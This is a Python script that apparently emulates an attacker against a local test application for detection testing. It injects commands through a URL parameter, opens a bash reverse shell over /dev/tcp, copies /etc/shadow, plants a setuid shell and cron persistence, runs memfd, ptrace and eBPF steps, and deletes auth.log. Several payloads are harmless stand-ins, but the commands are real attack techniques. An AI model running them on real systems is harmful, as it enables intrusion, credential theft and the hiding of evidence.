"""The attacker: sends commands to the application, then takes the shell that comes back."""

import contextlib
import socket
import threading
import time
import urllib.parse
import urllib.request

DROPPER = "cp /bin/sleep /tmp/.kworker; chmod 755 /tmp/.kworker; /tmp/.kworker 2"
MEMFD = """import os
fd = os.memfd_create("kdevtmpfs")
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["[kdevtmpfs]"], {})"""
INJECT = """import ctypes, os, subprocess, time
victim = subprocess.Popen(["/bin/sleep", "5"])
time.sleep(0.2)
libc = ctypes.CDLL(None)
libc.ptrace(16, victim.pid, 0, 0)
os.waitpid(victim.pid, os.WUNTRACED)
libc.ptrace(17, victim.pid, 0, 0)
victim.kill()"""
# The smallest program for a raw tracepoint, "return 0": what matters is that code went in.
ROOTKIT = """import ctypes, struct
code = ctypes.create_string_buffer(struct.pack("<BBhiBBhi", 0xb7, 0, 0, 0, 0x95, 0, 0, 0))
name = ctypes.create_string_buffer(b"GPL")
attributes = struct.pack("<IIQQ", 17, 2, ctypes.addressof(code), ctypes.addressof(name))
ctypes.CDLL(None).syscall(321, 5, attributes, len(attributes))"""
# No module at all: the kernel refuses it, and the attempt is what is seen.
MODULE = """import ctypes
image = bytes(4096)
ctypes.CDLL(None).syscall(175, image, len(image), b"")"""

SHELL = [
    ("id", 1),
    ("cat /etc/shadow > /tmp/.s", 4),
    ("cp /bin/sh /tmp/.sh; chmod 4755 /tmp/.sh", 4),
    ("echo '* * * * * root /tmp/.kworker' > /etc/cron.d/update", 4),
    (f"/usr/bin/python3 -S -c '{MEMFD}'", 4),
    (f"/usr/bin/python3 -S -c '{INJECT}'", 4),
    (f"/usr/bin/python3 -S -c '{ROOTKIT}'", 4),
    (f"/usr/bin/python3 -S -c '{MODULE}'", 4),
    ("rm /var/log/auth.log", 4),
    ("exit", 1),
]


def ask(command):
    with (
        contextlib.suppress(OSError),
        urllib.request.urlopen("http://127.0.0.1:8080/?" + urllib.parse.quote(command), timeout=60) as answer,
    ):
        answer.read()


ask("id; uname -a; cat /etc/passwd")
time.sleep(2)
ask(f"echo '{DROPPER}' > /tmp/.x.sh; sh /tmp/.x.sh")
time.sleep(2)
listener = socket.create_server(("127.0.0.1", 4444))
threading.Thread(target=ask, args=("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",), daemon=True).start()
shell, _ = listener.accept()
for command, pause in SHELL:
    shell.sendall(command.encode() + b"\n")
    time.sleep(pause)
shell.close()
